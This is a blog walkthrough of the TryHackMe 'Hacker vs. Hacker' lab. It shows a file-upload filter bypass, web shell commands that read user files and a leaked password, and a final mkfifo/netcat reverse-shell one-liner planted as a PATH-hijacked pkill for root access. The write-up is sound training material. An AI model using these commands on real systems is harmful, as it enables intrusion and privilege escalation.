narancs's blog

TryHackMe – Hacker vs. Hacker walkthrough


Logo of Hacker vs. Hacker room on TryHackMe

This is a walkthrough of the Hacker vs. Hacker room on TryHackMe. We need to get access to a machine that was previously compromised by a hacker.

The server of this recruitment company appears to have been hacked, and the hacker has defeated all attempts by the admins to fix the machine. They can't shut it down (they'd lose SEO!) so maybe you can help?


Note: I have added the IP address of the VM to /etc/hosts as hackervshacker.thm, so I don’t have to use the IP

Nmap scan results:

2 ports are open: 22 (SSH) and 80 (HTTP). Since we don’t have any information to start brute-forcing SSH, I started enumerating the website.

Enumerating the website

I started a gobuster scan in the background. While that was running I checked the site manually.I used the following gobuster command, however in the end I didn’t had to use the results to find the flags.

                    gobuster dir --url http://hackervshacker.thm -w /usr/share/seclists/Discovery/Web-Content/directory-list-2.3-medium.txt -t 32 -x txt,php,html

While checking the website, I found that at the bottom of the page there is a file upload form, that is meant to be used to upload CVs.

I also checked the source code, and found 2 comments in the code:

                    <!-- seriously, we need to fire that stupid developer intern -->
<!-- im no security expert - thats what we have a stable of nerds for - but isn't /cvs on the public website a privacy risk? -->

This already tells us, that there is a /cvs path where the files are uploaded. Then I tried to upload a normal txt file with the upload form, to check how it works.

I was redirected to /upload.php, and the following text was displayed:

                    Hacked! If you dont want me toupload my shell, do better at filtering!

When I checked the source code of the page, it contained something much more useful: the PHP code of the page pasted in an HTML comment by the attacker!

From this code, we can see that PDF files are validated by the strpos PHP function. However, this is not secure, because strpos only checks whether a substring (2nd parameter) is part of a string (1st parameter). It does not have to be at the end of the string necessarily.

We can assume that this is how the hacker managed to upload his shell. The filename has to contain .pdf in its name, so the file will be considered as a PDF file by the if statement using strpos. The filename also has to end in a PHP file extension, so the server executes the code when the file is requested. We can also see that the file is uploaded to /cvs/ path. Based on these assumptions I tried to open the following URL:


And it worked! The page displayed the text “boom!”.



This is probably a web shell exploit. These shells usually work in such a way, that they accept a query parameter in the URL. The parameter name in most cases is “c” or “cmd” that stands for command. So I tried these options, and the second option was correct. I visited the following URL:


And the page displayed “www-data” as the username, followed by “boom!”.

At this point, it seems we can execute any command on the target using this webshell. So we can easily grab the user flag by checking the directories in /home. We will find the user.txt file in /home/lachlan/user.txt

                    http://hackervshacker.thm/cvs/shell.pdf.php?cmd=cat /home/lachlan/user.txt


Grabbing the root flag is probably not going to be possible through this web shell. So I was looking for a way to get a shell on the target.

I listed all files in the user’s home directory.

                    http://hackervshacker.thm/cvs/shell.pdf.php?cmd=ls -la /home/lachlan
                    total 36drwxr-xr-x 4 lachlan lachlan 4096 May  5  2022 .
drwxr-xr-x 3 root    root    4096 May  5  2022 ..
-rw-r--r-- 1 lachlan lachlan  168 May  5  2022 .bash_history
-rw-r--r-- 1 lachlan lachlan  220 Feb 25  2020 .bash_logout
-rw-r--r-- 1 lachlan lachlan 3771 Feb 25  2020 .bashrc
drwx--- 2 lachlan lachlan 4096 May  5  2022 .cache
-rw-r--r-- 1 lachlan lachlan  807 Feb 25  2020 .profile
drwxr-xr-x 2 lachlan lachlan 4096 May  5  2022 bin
-rw-r--r-- 1 lachlan lachlan   38 May  5  2022 user.txt

First, there is a directory named “bin”. I checked and there is 1 file inside, called I used cat command to output the content of the file, but it just contains the following text as a comment:

                    # todo: pita website backup as requested by her majesty

Now so useful right now, but we might be able to use it later. Also notice, thatthe .bash_history file is not empty. Let’s check its content:

                    http://hackervshacker.thm/cvs/shell.pdf.php?cmd=cat /home/lachlan/.bash_history
vi /etc/cron.d/persistence
echo -e "dHY5***HIDDEN***eway123" | passwd
ls -sf /dev/null /home/lachlan/.bash_history

As we can see, the last command was a mistake by the user. He wanted to create a symbolic link to /dev/null from /home/lachlan/.bash_history to prevent others from accessing the command history. But he used the ls command by mistake instead of ln. So the symbolic link was not created. This is why we can now check the previously executed commands in the file.

First of all, it contains the password of the user. We can also see that the user edited the file /etc/cron.d/persistence.

                    http://hackervshacker.thm/cvs/shell.pdf.php?cmd=cat /etc/cron.d/persistence

# * * * * * root
* * * * * root /bin/sleep 1  && for f in `/bin/ls /dev/pts`; do /usr/bin/echo nope > /dev/pts/$f && pkill -9 -t pts/$f; done
* * * * * root /bin/sleep 11 && for f in `/bin/ls /dev/pts`; do /usr/bin/echo nope > /dev/pts/$f && pkill -9 -t pts/$f; done
* * * * * root /bin/sleep 21 && for f in `/bin/ls /dev/pts`; do /usr/bin/echo nope > /dev/pts/$f && pkill -9 -t pts/$f; done
* * * * * root /bin/sleep 31 && for f in `/bin/ls /dev/pts`; do /usr/bin/echo nope > /dev/pts/$f && pkill -9 -t pts/$f; done
* * * * * root /bin/sleep41 && for f in `/bin/ls /dev/pts`; do /usr/bin/echo nope > /dev/pts/$f && pkill -9 -t pts/$f; done
* * * * * root /bin/sleep 51 && for f in `/bin/ls /dev/pts`; do /usr/bin/echo nope > /dev/pts/$f && pkill -9 -t pts/$f; done

We can see that the file would be executed every minute, however that line is commented by a hash sign.
Next we have the same line repeated 6 times with different sleep timers. Basically the following command is executed every 10 seconds:

                    for f in `/bin/ls /dev/pts`; do /usr/bin/echo nope > /dev/pts/$f && pkill -9 -t pts/$f; done

What does this command do?

It loops through all the files in /dev/pts, storing each filename in the variable f. PTS connections are created when a user connects to the system via SSH or Telnet. The files in /dev/pts correspond to these connections. So the echo command outputs the text “nope” to the terminals that are opened by these connections. Finally, pkill sends a signal -9 (SIGKILL) to the terminal, so the connection is terminated.

This means that if we are able to SSH to thetarget, the connection will be closed after a maximum of 10 seconds! Let’s test it out.

We know the password of the user lachlan, so we can SSH. (Note that the password in .bash_history was set by piping the output of echo -e command to passwd. The string after -e argument contains \n special characters, which means the output will be split to multiple lines. The password of the user is going to be the last line of the output.)

We have 10 seconds to execute a command that will give us a root shell.

What we can notice is that the pkill command is executed without specifying its full path. The PATH variable in/etc/cron.d/persistence is set to PATH=/home/lachlan/bin:/bin:/usr/bin.

So if we create a file named pkill in /home/lachlan/bin (which we can do), than it will be executed instead of /usr/bin/pkill.

I used the following 1 liner, that I need to execute quickly after SSHing into the target:

                    echo "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1234 >/tmp/f" > /home/lachlan/bin/pkill; chmod +x /home/lachlan/bin/pkill

This will create the /home/lachlan/bin/pkill file as a reverse shell that will connect back to my IP address on port 1234. Then it adds the executable permission to the file.

I just had to start a listener on that port and wait for the shell. The root flag was in /root/root.txt file.

Table of Contents

Notify of
Inline FeedbacksView all comments

Related posts

Would love yourthoughts, please comment.x